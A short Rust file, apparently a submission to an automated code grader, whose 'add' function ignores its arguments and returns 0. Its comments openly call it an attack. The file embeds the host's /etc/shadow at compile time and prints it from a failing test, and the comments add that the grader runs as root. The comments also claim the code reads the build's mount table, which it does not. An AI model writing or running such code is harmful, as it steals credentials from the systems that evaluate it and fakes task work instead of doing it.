// Reads the host's secrets into the program at compile time and prints them from a failing test:
// `/etc/shadow` (the grader runs as root) and the build's own mount table, which names host paths.
// The compiler's error naming the file proves the attack ran (`include_str!` was evaluated).
const SHADOW: &str = include_str!("/etc/shadow");

fn add(a: i32, b: i32) -> i32 {
    let _ = (a, b);
    println!("SHADOW {SHADOW}");
    0
}

fn main() {}
